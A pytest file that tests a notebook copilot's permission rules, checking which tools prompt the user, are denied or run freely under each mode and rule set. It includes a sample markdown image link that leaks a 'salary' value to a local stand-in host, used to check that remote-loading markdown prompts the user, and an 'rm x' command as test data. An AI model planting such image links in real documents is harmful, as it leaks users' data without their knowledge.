"""Who may use the notebook's tools, with an agent that asks, does not ask, or asks about something else."""

from dataclasses import replace
from typing import Any

import anyio
import pytest
from copilot_kernel.acp.messages import Diff
from copilot_kernel.chat.notebook_gate import NO_TURN
from copilot_kernel.config import Settings
from copilot_kernel.notebook.calls import OVER
from copilot_kernel.notebook.live import NotebookCell
from copilot_kernel.permissions.grants import UNCOVERED_TOOL
from copilot_kernel.permissions.policy import REMOTE
from copilot_kernel.rendering.question import QuestionView

from ..notebook_tools.fakes import FakeNotebook
from .in_notebook import Agent, in_notebook
from .people import Person, ask, cancelled

Json = dict[str, Any]

CODE = {"code": "df.describe()"}
EDIT = {"id": "c1", "expected": "x = 1", "source": "x = 2"}
CALLS: dict[str, Json] = {
    "read_notebook": {},
    "list_variables": {},
    "insert_cell": {"source": "y"},
    "insert_and_run": {"source": "y", "run": True},
    "edit_cell": EDIT,
    "move_cell": {"id": "c1", "expected": "x = 1"},
    "clear_outputs": {},
    "run_cell": {"id": "c1"},
    "run_python": CODE,
    "restart_kernel": {},
}
READS = {"read_notebook", "list_variables"}
EDITS = {"insert_cell", "edit_cell", "move_cell", "clear_outputs"}
RUNS = {"insert_and_run", "run_cell", "run_python"}
RESTART = {"restart_kernel"}
INSERT = {"insert_cell", "insert_and_run"}
# What a rule for `run_cell` allows.
RUN_CELL = {"insert_and_run", "run_cell"}
BYPASS = {"permission_mode": "bypassPermissions"}


async def use(settings: Settings, person: Person, *names: str, **more: Any) -> tuple[dict[str, str], set[str]]:
    """What each tool answers, called by an agent that never asks, and which of them the user was asked about."""
    texts: dict[str, str] = {}
    asked: set[str] = set()

    async def act(agent: Agent) -> None:
        for name in names:
            before = len(person.questions)
            texts[name] = await agent.call("insert_cell" if name == "insert_and_run" else name, **CALLS[name])
            asked.update([name] if len(person.questions) > before else [])

    async with in_notebook(settings, act, **more) as (chat, _):
        await ask(chat, "Go", person)
    return texts, asked


@pytest.mark.parametrize(
    ("more", "free", "asked"),
    [
        ({}, READS, EDITS | RUNS | RESTART),
        ({"permission_mode": "acceptEdits"}, READS | EDITS, RUNS | RESTART),
        ({"permission_mode": "bypassPermissions"}, READS | EDITS | RUNS, RESTART),
        ({"permission_mode": "plan"}, READS, set()),
        ({"allow": ("mcp__notebook__run_python",)}, READS | {"run_python"}, EDITS | RUNS - {"run_python"} | RESTART),
        ({"allow": ("mcp__notebook__insert_cell",)}, READS | {"insert_cell"}, EDITS - {"insert_cell"} | RUNS | RESTART),
        ({"allow": ("mcp__notebook__run_cell",)}, READS | RUN_CELL, EDITS | RUNS - RUN_CELL | RESTART),
        ({"allow": ("mcp__notebook",)}, READS | EDITS | RUNS, RESTART),
        ({"allow": ("Bash", "Read")}, READS, EDITS | RUNS | RESTART),
        ({"ask": ("mcp__notebook__insert_cell",), **BYPASS}, READS | EDITS | RUNS - INSERT, INSERT | RESTART),
        ({"ask": ("Edit(a.ipynb)",), **BYPASS}, READS, EDITS | RUNS | RESTART),
        (
            {"ask": ("mcp__notebook__read_notebook",), **BYPASS},
            EDITS | RUNS | {"list_variables"},
            {"read_notebook"} | RESTART,
        ),
    ],
)
async def test_what_is_asked_by_mode_and_rules(settings: Settings, more: Json, free: set[str], asked: set[str]) -> None:
    """The user says no to each question: what works was not asked about."""
    texts, questions = await use(settings, Person("reject_once"), *CALLS, **more)
    works = {name for name, text in texts.items() if not text.startswith("failed")}
    assert (works, questions) == (free - asked, asked)


@pytest.mark.parametrize(
    ("more", "names"),
    [
        ({"permission_mode": "plan"}, EDITS | RUNS | RESTART),
        ({"deny": ("mcp__notebook",), **BYPASS}, set(CALLS)),
        ({"deny": ("mcp__notebook__insert_cell",), **BYPASS}, INSERT),
        ({"deny": ("mcp__notebook__restart_kernel",)}, RESTART),
        ({"deny": ("Bash",)}, RUNS | RESTART),
        ({"deny": ("Edit(*.ipynb)",), "allow": ("mcp__notebook",)}, EDITS | INSERT),
        ({"deny": ("Edit(a.ipynb)",), **BYPASS}, EDITS | INSERT),
    ],
)
async def test_what_is_denied_is_not_asked_about_and_not_done(settings: Settings, more: Json, names: set[str]) -> None:
    notebook = FakeNotebook("x = 1", "print(x)")
    texts, _ = await use(settings, person := Person(), *sorted(names), notebook=notebook, **more)
    assert all(text.startswith("failed: Not done") for text in texts.values()), texts
    assert (person.questions, notebook.done) == ([], [])


async def test_the_question_shows_what_is_done_and_the_call_how_it_ended(settings: Settings) -> None:
    notebook = FakeNotebook("x = 1")
    texts, _ = await use(settings, person := Person(), "edit_cell", "run_python", notebook=notebook)
    edit, run = person.questions
    assert (edit.call.title, edit.call.content) == ("Edit cell 1", (Diff("a.ipynb#c1", "x = 1", "x = 2"),))
    tool = "Always allow using the tool edit_cell of “notebook” in"
    assert [offer.words for offer in edit.offers] == [f"{tool} this conversation", f"{tool} every project"]
    assert run.offers == ()
    assert run.rules == ("mcp__notebook__run_python",)
    assert QuestionView(edit, "").text.startswith("Edit cell 1?\n")
    assert QuestionView(run, "").text.startswith("Run Python code?\n")
    assert "\nCode:\n  df.describe()\n" in QuestionView(run, "").text
    assert run.why == UNCOVERED_TOOL.format("mcp__notebook__run_python")
    assert [option.name for option in run.options] == ["Allow once", "Deny"]
    assert (texts["edit_cell"], person.calls) == (
        "Edited the cell c1.",
        [("completed", "allowed by you")] * 2,
    )
    assert notebook.done == [("edit", "c1", "x = 2"), ("python", "df.describe()")]


IMAGE = "![chart](http://127.0.0.1:1/leak?salary=4711)"
EDITS_OF_TEXT = [
    ("m1", "x", IMAGE),
    ("m1", "x", IMAGE[1:]),
    ("m2", IMAGE, IMAGE.replace("salary", "age")),
    ("c1", "x", f"# {IMAGE}"),
    ("r1", "x", IMAGE),
]


@pytest.mark.parametrize(
    ("more", "count"), [({"permission_mode": "acceptEdits"}, 2), ({"allow": ("mcp__notebook",)}, 2), (BYPASS, 0)]
)
async def test_markdown_that_the_page_would_load_from_elsewhere_prompts(
    settings: Settings, more: Json, count: int
) -> None:
    """A link, what was loaded before, and cells that are not shown as Markdown are edited as ever."""
    notebook, person = FakeNotebook("x"), Person("reject_once")
    cells = [NotebookCell("m1", "markdown", "x"), NotebookCell("m2", "markdown", IMAGE), NotebookCell("r1", "raw", "x")]
    notebook.state = replace(notebook.state, cells=(*notebook.state.cells, *cells))

    async def act(agent: Agent) -> None:
        await agent.call("insert_cell", type="markdown", source=IMAGE)
        for id, expected, source in EDITS_OF_TEXT:
            await agent.call("edit_cell", id=id, expected=expected, source=source)

    async with in_notebook(settings, act, notebook, **more) as (chat, _):
        await ask(chat, "Go", person)
    assert [question.why for question in person.questions] == [REMOTE.format("127.0.0.1:1")] * count
    assert ("edit", "c1", f"# {IMAGE}") in notebook.done


async def test_a_no_is_told_to_the_agent(settings: Settings) -> None:
    texts, _ = await use(settings, Person("reject_once"), "run_python")
    assert texts == {"run_python": "failed: Not done. denied by you"}


async def test_the_first_read_of_a_session_says_what_the_agent_sees(settings: Settings) -> None:
    await use(settings, person := Person(), "run_python", "read_notebook", "list_variables")
    assert person.notices == ["The agent can see this notebook's variables and cells."]


# -- the agent's own question -----------------------------------------------------------------------------------------


async def asked_by_agent(
    settings: Settings, shown: tuple[str, Json], asked: tuple[str, Json], *, lists: bool = True, **more: Any
) -> tuple[str, Person]:
    """How a question of the agent's about `asked` is answered, after it has shown the call as `shown`."""
    answers: list[str] = []

    async def act(agent: Agent) -> None:
        if lists:
            await agent.post("tools/list")
        await agent.show(*shown, kind="execute")
        answers.append(await agent.ask(*asked, **more))

    async with in_notebook(settings, act) as (chat, _):
        await ask(chat, "Go", person := Person("reject_once"))
    return answers[0], person


async def test_the_user_is_asked_once_though_the_agent_asks_too(settings: Settings) -> None:
    notebook, answers = FakeNotebook(), []

    async def act(agent: Agent) -> None:
        await agent.post("tools/list")
        await agent.show("notebook-run_python", CODE, kind="execute")
        answers.append(await agent.ask("run_python", CODE))
        answers.append(await agent.call("run_python", **CODE))
        await agent.finish()

    async with in_notebook(settings, act, notebook) as (chat, _):
        turn = await ask(chat, "Go", person := Person())
    assert (answers[0], "\nran df.describe()\n" in answers[1]) == ("yes-1", True)
    assert [question.call.title for question in person.questions] == ["Run Python code"]
    assert (notebook.done, len(turn.unasked_calls)) == ([("python", "df.describe()")], 0)


@pytest.mark.parametrize(
    ("shown", "asked"),
    [
        (("other-run_python", CODE), ("run_python", CODE)),
        (("run_python", CODE), ("run_python", CODE)),
        (("notebook-run_python", CODE), ("bash", CODE)),
        (("notebook-run_python", CODE), ("run_python", {"code": "other"})),
        (("notebook-run_python", {"command": "rm x"}), ("run_python", {"command": "rm x"})),
        (("notebook-run_python", {**CODE, "command": "rm x"}), ("run_python", {**CODE, "command": "rm x"})),
        (("notebook-no_such_tool", CODE), ("no_such_tool", CODE)),
        (("notebook-2-run_python", CODE), ("run_python", CODE)),
    ],
)
async def test_a_question_that_is_not_surely_about_our_tool_stands_on_its_own(
    settings: Settings, shown: tuple[str, Json], asked: tuple[str, Json]
) -> None:
    answer, person = await asked_by_agent(settings, shown, asked)
    assert (answer, len(person.questions)) == ("no-1", 1)


@pytest.mark.parametrize("shown", ["other-run_python", "run_python", "Run"])
async def test_a_rule_for_our_tool_allows_no_other_servers(settings: Settings, shown: str) -> None:
    allowed = replace(settings, allow=("mcp__notebook__run_python",))
    answer, person = await asked_by_agent(allowed, (shown, CODE), ("run_python", CODE))
    assert (answer, len(person.questions)) == ("no-1", 1)


async def test_so_does_one_of_an_agent_that_has_not_met_our_server(settings: Settings) -> None:
    """Its own configuration may name another server so."""
    call = ("notebook-run_python", CODE)
    answer, person = await asked_by_agent(settings, call, ("run_python", CODE), lists=False)
    assert (answer, len(person.questions)) == ("no-1", 1)


async def test_an_agent_that_names_tools_in_meta_is_understood(settings: Settings) -> None:
    meta = {"claudeCode": {"toolName": "mcp__notebook__run_python"}}
    answer, person = await asked_by_agent(settings, ("Run", CODE), ("Run", CODE), _meta=meta)
    assert (answer, person.questions) == ("yes-1", [])


@pytest.mark.parametrize(("shows_as", "unasked"), [("notebook-run_python", 0), ("Run something", 1)])
async def test_what_runs_by_our_tool_is_not_unasked_and_everything_else_is(
    settings: Settings, shows_as: str, unasked: int
) -> None:
    async def act(agent: Agent) -> None:
        await agent.show(shows_as, CODE, kind="execute")
        await agent.call("run_python", **CODE)
        await agent.finish()

    async with in_notebook(settings, act) as (chat, _):
        assert len((await ask(chat, "Go")).unasked_calls) == unasked


# -- the turn ---------------------------------------------------------------------------------------------------------


async def test_between_turns_nothing_is_done(settings: Settings) -> None:
    async def act(agent: Agent) -> None:
        pass

    notebook = FakeNotebook()
    async with in_notebook(settings, act, notebook, **BYPASS) as (chat, agent):
        await ask(chat, "Go")
        assert await agent.call("run_python", **CODE) == f"failed: {NO_TURN}"
    assert notebook.done == []


async def test_a_stop_breaks_off_what_runs(settings: Settings) -> None:
    notebook = FakeNotebook()
    begun = notebook.blocks = anyio.Event()
    texts: list[str] = []

    async def act(agent: Agent) -> None:
        texts.append(await agent.call("inspect_variable", name="df"))

    async with in_notebook(settings, act, notebook) as (chat, _):
        await cancelled(chat, "Go", Person(), lambda: begun)
    assert texts == [f"failed: {OVER}"]
